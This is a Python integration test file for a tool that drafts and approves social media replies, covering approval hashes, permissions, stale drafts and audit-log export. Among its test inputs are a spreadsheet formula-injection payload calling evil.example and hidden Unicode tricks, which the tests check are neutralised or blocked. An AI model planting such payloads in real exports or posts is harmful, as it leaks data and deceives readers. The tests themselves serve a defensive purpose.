"""Review on the real database: only the exact bytes that were shown, once, by who may."""

from __future__ import annotations

import asyncio
import csv
import io
from dataclasses import replace
from datetime import timedelta

import psycopg
import pytest

from assistant.community.drafts import Draft, DraftState, Happening
from assistant.community.inbox import Decision
from assistant.community.posts import Post
from assistant.errors import (
    ConfirmationNeeded,
    EditConflict,
    InvalidInput,
    NotAllowed,
    NotFound,
    PlatformUnavailable,
)
from assistant.explain import explain
from assistant.storage.database import Database
from tests.integration.responding import ANA, NOW, TRIAGE, item, jobs, line, part
from tests.integration.reviewing_kit import Desk, desk_over

pytestmark = pytest.mark.integration


@pytest.fixture
async def desk(database: Database) -> Desk:
    return await desk_over(database)


async def approve(desk: Desk, draft: Draft, who: str = "mia", **more: bool) -> Draft:
    """Click on the card as it was drawn from this draft."""
    return await desk.reviewing.approve(
        "T1", who, draft.id, version=draft.version, digest=draft.digest, **more
    )


async def happened(desk: Desk, draft: Draft) -> list[Happening]:
    return [each.happening for each in await desk.drafts.history("T1", draft.id)]


def to_publish(database_url: str) -> list[str]:
    return [ids["draft_id"] for name, ids, _ in jobs(database_url) if name == "draft.publish"]


# -- approving ------------------------------------------------------------------------------


async def test_an_approval_binds_the_bytes_and_waits_for_second_thoughts(desk, database_url):
    draft = await desk.waiting()
    approved = await approve(desk, draft)

    assert approved.state is DraftState.APPROVED
    assert approved.approver_id == "mia"
    assert approved.approved_hash == draft.digest
    assert approved.send_at == NOW + timedelta(seconds=30)
    assert not approved.dry_run
    assert to_publish(database_url) == [draft.id]
    assert await happened(desk, draft) == [Happening.DRAFTED, Happening.APPROVED]


async def test_a_second_click_changes_nothing(desk, database_url):
    draft = await desk.waiting()
    first = await approve(desk, draft)
    second = await approve(desk, draft)

    assert second == first
    assert to_publish(database_url) == [draft.id]
    assert (await happened(desk, draft)).count(Happening.APPROVED) == 1


async def test_a_double_click_at_once_approves_once(desk, database_url):
    draft = await desk.waiting()
    states = await asyncio.gather(*[approve(desk, draft) for _ in range(4)])

    assert {each.version for each in states} == {2}
    assert to_publish(database_url) == [draft.id]


async def test_of_two_people_at_once_one_approves_and_the_other_is_told(desk, database_url):
    desk.set(approver_ids=("max", "noa"))
    draft = await desk.waiting()
    ends = await asyncio.gather(
        *[approve(desk, draft, who) for who in ("max", "noa")], return_exceptions=True
    )
    told = [each for each in ends if isinstance(each, EditConflict)]

    assert len(told) == 1
    assert "approved already" in explain(told[0])
    assert to_publish(database_url) == [draft.id]


async def test_of_two_drafts_of_one_item_only_one_goes_out(desk, database_url):
    first = await desk.waiting("It is on its way.")
    second = await desk.another(await desk.inbox.get("T1", first.item_id), "We look into it.")
    ends = await asyncio.gather(approve(desk, first), approve(desk, second), return_exceptions=True)

    assert sum(isinstance(each, Draft) for each in ends) == 1
    assert sum(isinstance(each, EditConflict) for each in ends) == 1
    assert len(to_publish(database_url)) == 1


@pytest.mark.parametrize("who", ["max", "gus", "stranger"])
async def test_whoever_may_not_approve_is_refused_and_nothing_happens(desk, database_url, who):
    draft = await desk.waiting()
    with pytest.raises(NotAllowed):
        await approve(desk, draft, who, overriding=True)

    assert (await desk.drafts.get("T1", draft.id)).state is DraftState.PENDING
    assert to_publish(database_url) == []


async def test_where_the_account_names_approvers_a_manager_is_none(desk):
    desk.set(approver_ids=("max",))
    draft = await desk.waiting()
    with pytest.raises(NotAllowed, match="Please ask Max"):
        await approve(desk, draft, "mia")

    assert (await approve(desk, draft, "max")).approver_id == "max"


async def test_a_draft_of_another_workspace_is_not_there(desk, database_url):
    draft = await desk.waiting()
    with pytest.raises(NotFound):
        await desk.reviewing.approve(
            "T2", "mia", draft.id, version=draft.version, digest=draft.digest
        )

    assert to_publish(database_url) == []


async def test_an_old_card_approves_nothing(desk, database_url):
    """The card was drawn before a colleague's edit."""
    draft = await desk.waiting()
    edited = await desk.reviewing.edit(
        "T1", "max", draft.id, version=1, text="It left on Friday, we hear."
    )
    with pytest.raises(EditConflict) as conflict:
        await approve(desk, draft)

    assert conflict.value.current == edited
    assert "read it as it is now" in explain(conflict.value)
    assert to_publish(database_url) == []


async def test_an_edit_that_was_not_shown_cannot_be_approved_with_what_was_on_the_screen(desk):
    """Neither the old hash with the new version, nor the old version with the new hash."""
    draft = await desk.waiting()
    edited = await desk.reviewing.edit("T1", "mia", draft.id, version=1, text="Sent on Friday.")
    for version, digest in ((edited.version, draft.digest), (draft.version, edited.digest)):
        with pytest.raises(EditConflict):
            await desk.reviewing.approve("T1", "mia", draft.id, version=version, digest=digest)

    assert (await approve(desk, edited)).approved_hash == edited.digest


async def test_edited_back_and_forth_an_old_card_still_approves_nothing(desk):
    """The bytes are the same again, but the card on the screen is not the last one."""
    draft = await desk.waiting("One.")
    await desk.reviewing.edit("T1", "max", draft.id, version=1, text="Two.")
    back = await desk.reviewing.edit("T1", "max", draft.id, version=2, text="One.")

    assert back.digest == draft.digest
    with pytest.raises(EditConflict):
        await approve(desk, draft)


async def test_the_author_does_not_approve_where_two_must_look(desk):
    desk.set(second_person=True)
    draft = await desk.waiting(author_id="mia")
    with pytest.raises(NotAllowed, match="somebody else must approve"):
        await approve(desk, draft, overriding=True)
    other = await desk.waiting(author_id="max")

    assert (await approve(desk, other)).state is DraftState.APPROVED


async def test_whoever_edits_becomes_the_author(desk):
    desk.set(second_person=True)
    draft = await desk.waiting(author_id="max")
    edited = await desk.reviewing.edit("T1", "mia", draft.id, version=1, text="Another.")
    with pytest.raises(NotAllowed):
        await approve(desk, edited)


async def test_with_publishing_switched_off_nothing_is_approved_and_nothing_is_lost(desk):
    desk.set_workspace(publishing=False)
    draft = await desk.waiting()
    with pytest.raises(InvalidInput, match="switched off"):
        await approve(desk, draft, overriding=True)
    desk.set_workspace(publishing=True)

    assert (await approve(desk, draft)).state is DraftState.APPROVED


async def test_a_dry_run_is_marked_at_the_approval(desk):
    desk.set(dry_run=True)

    assert (await approve(desk, await desk.waiting())).dry_run


async def test_an_account_may_send_at_once(desk):
    desk.set(undo_s=0)

    assert (await approve(desk, await desk.waiting())).send_at == NOW


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("Hello\u200bthere", "zero-width space"),
        ("pay \u202eecnuos", "right-to-left override"),
        ("Hi\U000e0041", "tag character"),
    ],
)
async def test_what_nobody_sees_blocks_whoever_insists(desk, text, named):
    draft = await desk.waiting(text)
    with pytest.raises(InvalidInput, match=named):
        await approve(desk, draft, overriding=True)


async def test_too_long_blocks_with_the_count(desk):
    draft = await desk.waiting("x" * 312)
    with pytest.raises(InvalidInput) as refused:
        await approve(desk, draft, overriding=True)

    assert refused.value.problem == (
        "This is 312 characters long as Bluesky counts, and Bluesky takes 300. "
        "Please make it 12 shorter."
    )


async def test_an_account_that_cannot_write_has_another_way_on(desk):
    desk.publishers.signed_in = False
    with pytest.raises(InvalidInput, match="Copy the reply and post it by hand"):
        await approve(desk, await desk.waiting())


async def test_doubts_ask_for_a_second_click_and_are_logged(desk):
    desk.lint.said = ("It tells of an experience that nobody had.",)
    draft = await desk.waiting(add=("The price.",))
    with pytest.raises(ConfirmationNeeded) as asked:
        await approve(desk, draft)
    approved = await approve(desk, draft, overriding=True)
    last = (await desk.drafts.history("T1", draft.id))[-1]

    assert asked.value.reasons == ("The price.", "It tells of an experience that nobody had.")
    assert approved.state is DraftState.APPROVED
    assert last.detail == "although: The price. It tells of an experience that nobody had."


@pytest.mark.parametrize(
    ("decision", "said"),
    [
        (Decision.GONE, "nothing to answer"),
        (Decision.REPLY, "taken care of already at https://x/answer"),
        (Decision.BY_HAND, "taken care of already"),
    ],
)
async def test_what_is_over_is_not_answered_once_more(desk, decision, said):
    draft = await desk.waiting()
    stored = await desk.inbox.get("T1", draft.item_id)
    answer = "https://x/answer" if decision is Decision.REPLY else None
    await desk.inbox.keep(replace(stored, decision=decision, answer_url=answer))
    with pytest.raises(InvalidInput, match=said):
        await approve(desk, draft, overriding=True)


async def test_a_comment_put_away_can_still_be_answered(desk):
    draft = await desk.waiting()
    stored = await desk.inbox.get("T1", draft.item_id)
    await desk.inbox.keep(replace(stored, decision=Decision.NONE, note="only an emoji"))

    assert (await approve(desk, draft)).state is DraftState.APPROVED


# -- stale ------------------------------------------------------------------------------------


async def test_a_draft_is_stale_once_its_author_wrote_on(desk, database_url):
    draft = await desk.waiting()
    stored = await desk.inbox.get("T1", draft.item_id)
    more = part("at://more", NOW + timedelta(minutes=2), "Never mind, it came.")
    await desk.inbox.keep(replace(stored, parts=(*stored.parts, more)))
    with pytest.raises(EditConflict) as conflict:
        await approve(desk, draft, overriding=True)
    history = await desk.drafts.history("T1", draft.id)

    assert isinstance(conflict.value.current, Draft)
    assert conflict.value.current.state is DraftState.STALE
    assert "moved on" in explain(conflict.value)
    assert history[-1].detail == "1 new"  # words of others stay where they can be removed
    assert to_publish(database_url) == []


async def test_a_stale_draft_that_still_fits_is_shown_and_approved_again(desk):
    desk.publishers.publisher_of.conversation = ("at://other",)
    draft = await desk.waiting()
    stored = await desk.inbox.get("T1", draft.item_id)
    more = part("at://more", NOW + timedelta(minutes=2), "It is blue.")
    await desk.inbox.keep(replace(stored, parts=(*stored.parts, more)))
    with pytest.raises(EditConflict) as conflict:
        await approve(desk, draft)
    stale = conflict.value.current
    assert isinstance(stale, Draft)
    again = await desk.reviewing.reopen("T1", "max", stale.id, version=stale.version)

    assert again.state is DraftState.PENDING
    assert stale.problem == "New: “It is blue.”"
    assert again.seen == (*draft.seen, "at://more")
    with pytest.raises(EditConflict):
        await approve(desk, stale)
    assert (await approve(desk, again)).state is DraftState.APPROVED


@pytest.mark.parametrize("keeps", ["still fits", "edits"])
async def test_what_came_behind_the_difference_on_the_card_is_still_news(desk, keeps):
    """A person who keeps a stale draft has read what the card showed, and nothing newer."""
    draft = await desk.waiting()

    async def says(name: str, words: str) -> None:
        stored = await desk.inbox.get("T1", draft.item_id)
        more = part(f"at://{name}", NOW + timedelta(minutes=2), words)
        await desk.inbox.keep(replace(stored, parts=(*stored.parts, more)))

    await says("shown", "It is blue.")
    with pytest.raises(EditConflict):
        await approve(desk, draft)
    stale = await desk.drafts.get("T1", draft.id)
    await says("unseen", "No, cancel it!")
    beside = Post("at://beside", ANA, "Me too", NOW, "https://x/beside")
    desk.publishers.publisher_of.posts = (beside,)
    at = ("T1", "max", stale.id)
    if keeps == "edits":
        again = await desk.reviewing.edit(*at, version=stale.version, text="Blue it is.")
    else:
        again = await desk.reviewing.reopen(*at, version=stale.version)

    assert again.seen == (*draft.seen, "at://shown")
    with pytest.raises(EditConflict):
        await approve(desk, again)
    assert (await desk.drafts.get("T1", draft.id)).problem == "New: “No, cancel it!”"


@pytest.mark.parametrize(
    ("text", "said"), [("x" * 301, "1 shorter"), ("ship\u200bping", "zero-width space")]
)
async def test_what_could_not_be_approved_is_not_saved_either(desk, text, said):
    """Counted the platform's way, in the form; where it cannot be asked the approval tells."""
    draft = await desk.waiting()
    for saving in (
        desk.reviewing.edit("T1", "max", draft.id, version=1, text=text),
        desk.reviewing.write("T1", "max", draft.item_id, text),
    ):
        with pytest.raises(InvalidInput, match=said):
            await saving
    assert (await desk.drafts.get("T1", draft.id)).version == 1
    desk.publishers.signed_in = False
    long = await desk.reviewing.edit("T1", "max", draft.id, version=1, text="x" * 301)
    assert long.version == 2


async def test_a_stale_draft_can_be_edited_while_the_platform_is_away(desk, monkeypatch):
    draft = await desk.waiting()
    stale = await desk.drafts.keep(
        replace(draft, state=DraftState.STALE), line(draft, Happening.STALE)
    )

    async def away(account: object) -> None:
        raise PlatformUnavailable("bluesky")

    monkeypatch.setattr(desk.publishers, "publisher", away)
    edited = await desk.reviewing.edit("T1", "max", draft.id, version=stale.version, text="New.")

    assert edited.state is DraftState.PENDING
    assert edited.seen == draft.seen


# -- calling back, dismissing -------------------------------------------------------------------


async def test_within_the_delay_anybody_here_may_call_it_back(desk):
    approved = await approve(desk, await desk.waiting())
    back = await desk.reviewing.call_back("T1", "max", approved.id)

    assert back.state is DraftState.PENDING
    assert (back.approver_id, back.approved_hash, back.send_at) == (None, None, None)
    with pytest.raises(EditConflict):
        await approve(desk, replace(back, version=approved.version))
    assert (await approve(desk, back)).state is DraftState.APPROVED


async def test_what_left_cannot_be_called_back(desk):
    draft = await approve(desk, await desk.waiting())
    for state in (DraftState.PREPARED, DraftState.SENDING):
        draft = await desk.drafts.keep(replace(draft, state=state), line(draft, Happening.SENT))
    with pytest.raises(EditConflict) as conflict:
        await desk.reviewing.call_back("T1", "mia", draft.id)

    assert "being sent right now" in explain(conflict.value)
    assert (await desk.drafts.get("T1", draft.id)).state is DraftState.SENDING


async def test_a_dismissal_has_a_reason_and_is_final(desk):
    draft = await desk.waiting()
    with pytest.raises(InvalidInput, match="in a few words why"):
        await desk.reviewing.reject("T1", "max", draft.id, version=1, reason="  ")
    gone = await desk.reviewing.reject("T1", "max", draft.id, version=1, reason="Too stiff")
    with pytest.raises(EditConflict):
        await approve(desk, gone)

    assert gone.state is DraftState.REJECTED
    assert (await desk.drafts.history("T1", draft.id))[-1].detail == "Too stiff"


async def test_an_approved_draft_is_not_dismissed_by_an_old_card(desk):
    draft = await desk.waiting()
    approved = await approve(desk, draft)
    for version in (draft.version, approved.version):
        with pytest.raises(EditConflict):
            await desk.reviewing.reject("T1", "max", draft.id, version=version, reason="No")

    assert (await desk.drafts.get("T1", draft.id)).state is DraftState.APPROVED


# -- words --------------------------------------------------------------------------------------


async def test_an_edit_keeps_the_original_and_what_was_to_add_is_done(desk):
    draft = await desk.waiting("It costs ….", add=("The price.",))
    edited = await desk.reviewing.edit(
        "T1", "max", draft.id, version=1, text=" It costs nothing.\r\n"
    )
    last = (await desk.drafts.history("T1", draft.id))[-1]

    assert edited.text == "It costs nothing."
    assert edited.original == "It costs …."
    assert (edited.author_id, edited.add, edited.version) == ("max", (), 2)
    assert (last.happening, last.version, last.text) == (
        Happening.EDITED, 2, "It costs nothing.",
    )  # fmt: skip


async def test_an_edit_without_a_change_is_none(desk):
    draft = await desk.waiting()
    same = await desk.reviewing.edit("T1", "max", draft.id, version=1, text=f"{draft.text} ")

    assert same == draft


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("  ", "nothing in this reply"),
        ("\u200b\u2060", "nothing in this reply"),
        ("x" * 10_001, "no platform"),
    ],
)
async def test_a_text_that_cannot_be_is_refused(desk, text, said):
    draft = await desk.waiting()
    with pytest.raises(InvalidInput, match=said):
        await desk.reviewing.edit("T1", "max", draft.id, version=1, text=text)


async def test_of_two_edits_at_once_the_second_is_told(desk):
    draft = await desk.waiting()
    ends = await asyncio.gather(
        *[desk.reviewing.edit("T1", "max", draft.id, version=1, text=each) for each in "ab"],
        return_exceptions=True,
    )

    assert sum(isinstance(each, EditConflict) for each in ends) == 1


async def test_an_approved_text_cannot_be_edited(desk):
    approved = await approve(desk, await desk.waiting())
    with pytest.raises(EditConflict):
        await desk.reviewing.edit("T1", "mia", approved.id, version=approved.version, text="x")


async def test_a_person_writes_from_nothing(desk):
    desk.publishers.publisher_of.conversation = ("at://other",)
    of = item(desk.account)
    await desk.inbox.add(of)
    mine = await desk.reviewing.write("T1", "max", of.id, "Thanks, we are on it.")
    stored = await desk.drafts.get("T1", mine.id)

    assert (stored.composer, stored.author_id, stored.target_id) == ("person", "max", of.last.id)
    assert stored.seen == (of.last.id, "at://other")
    assert (await approve(desk, stored)).state is DraftState.APPROVED


@pytest.mark.parametrize("typed", ["Thanks.", "@ana@example.social Thanks."])
async def test_what_a_person_writes_begins_as_the_platform_needs_it(desk, typed):
    desk.publishers.publisher_of.opening = "@ana@example.social "
    of = item(desk.account)
    await desk.inbox.add(of)

    mine = await desk.reviewing.write("T1", "max", of.id, typed)

    assert mine.text == "@ana@example.social Thanks."


@pytest.mark.parametrize("who", ["gus", "stranger"])
async def test_guests_and_strangers_touch_nothing(desk, who):
    draft, review = await desk.waiting(), desk.reviewing
    acts = [
        review.edit("T1", who, draft.id, version=1, text="x"),
        review.write("T1", who, draft.item_id, "x"),
        review.reject("T1", who, draft.id, version=1, reason="x"),
        review.call_back("T1", who, draft.id),
        review.copied("T1", who, draft.id),
        review.history("T1", who, draft.id),
        review.export("T1", who, NOW, NOW),
    ]
    ends = await asyncio.gather(*acts, return_exceptions=True)

    assert {type(each) for each in ends} == {NotAllowed}
    assert await happened(desk, draft) == [Happening.DRAFTED]


async def test_what_was_not_for_all_is_its_assignee_s_and_the_approvers(desk):
    of = item(desk.account, open_to_all=False, assignee_id="max", triage=TRIAGE)
    await desk.inbox.add(of)
    draft = await desk.another(of)
    with pytest.raises(NotAllowed, match="only its assignee"):
        await desk.reviewing.history("T1", "noa", draft.id)

    assert len(await desk.reviewing.history("T1", "max", draft.id)) == 1
    assert len(await desk.reviewing.history("T1", "mia", draft.id)) == 1


# -- the log ------------------------------------------------------------------------------------


async def test_the_log_tells_who_saw_changed_approved_and_copied(desk):
    draft = await desk.waiting()
    for _ in range(2):
        await desk.reviewing.shown("T1", draft.id)
    await desk.reviewing.shown("T1", draft.id, "max")
    edited = await desk.reviewing.edit("T1", "max", draft.id, version=1, text="Sent.")
    await desk.reviewing.shown("T1", draft.id)
    await desk.reviewing.copied("T1", "noa", draft.id)
    await approve(desk, edited)
    told = [
        (each.happening.value, each.person_id, each.version)
        for each in await desk.reviewing.history("T1", "noa", draft.id)
    ]

    assert told == [
        ("drafted", None, 1), ("shown", None, 1), ("shown", "max", 1), ("edited", "max", 2),
        ("shown", None, 2), ("copied", "noa", 2), ("approved", "mia", 2),
    ]  # fmt: skip


async def test_the_export_is_a_table_that_computes_nothing(desk):
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    draft = await desk.waiting(evil)
    await desk.reviewing.reject("T1", "max", draft.id, version=1, reason="@SUM(1+1)")
    table = await desk.reviewing.export("T1", "mia", NOW, NOW + timedelta(hours=1))
    heads, *rows = csv.reader(io.StringIO(table))

    assert len(rows) == 2
    assert {len(row) for row in rows} == {len(heads)}
    assert rows[0][heads.index("text")] == f"'{evil}"
    assert rows[1][heads.index("detail")] == "'@SUM(1+1)"
    assert rows[1][heads.index("person")] == "max"
    assert rows[0][heads.index("account")] == str(desk.account.ref)


async def test_an_export_holds_its_stretch_alone_and_is_the_managers(desk):
    await desk.waiting()
    before = await desk.reviewing.export("T1", "mia", NOW - timedelta(hours=1), NOW)
    with pytest.raises(NotAllowed):
        await desk.reviewing.export("T1", "max", NOW, NOW + timedelta(hours=1))

    assert len(before.splitlines()) == 1


async def test_the_log_keeps_what_sending_was_said_to_cost(desk: Desk, database_url: str) -> None:
    with psycopg.connect(database_url) as connection:
        connection.execute("UPDATE account SET platform = 'x', handle = 'acme'")
    draft = await desk.waiting("The menu: https://acme.example/menu")
    await approve(desk, draft)
    last = (await desk.drafts.history("T1", draft.id))[-1]
    assert last.happening is Happening.APPROVED
    assert last.detail == "Sending this costs $0.20, because of its link."
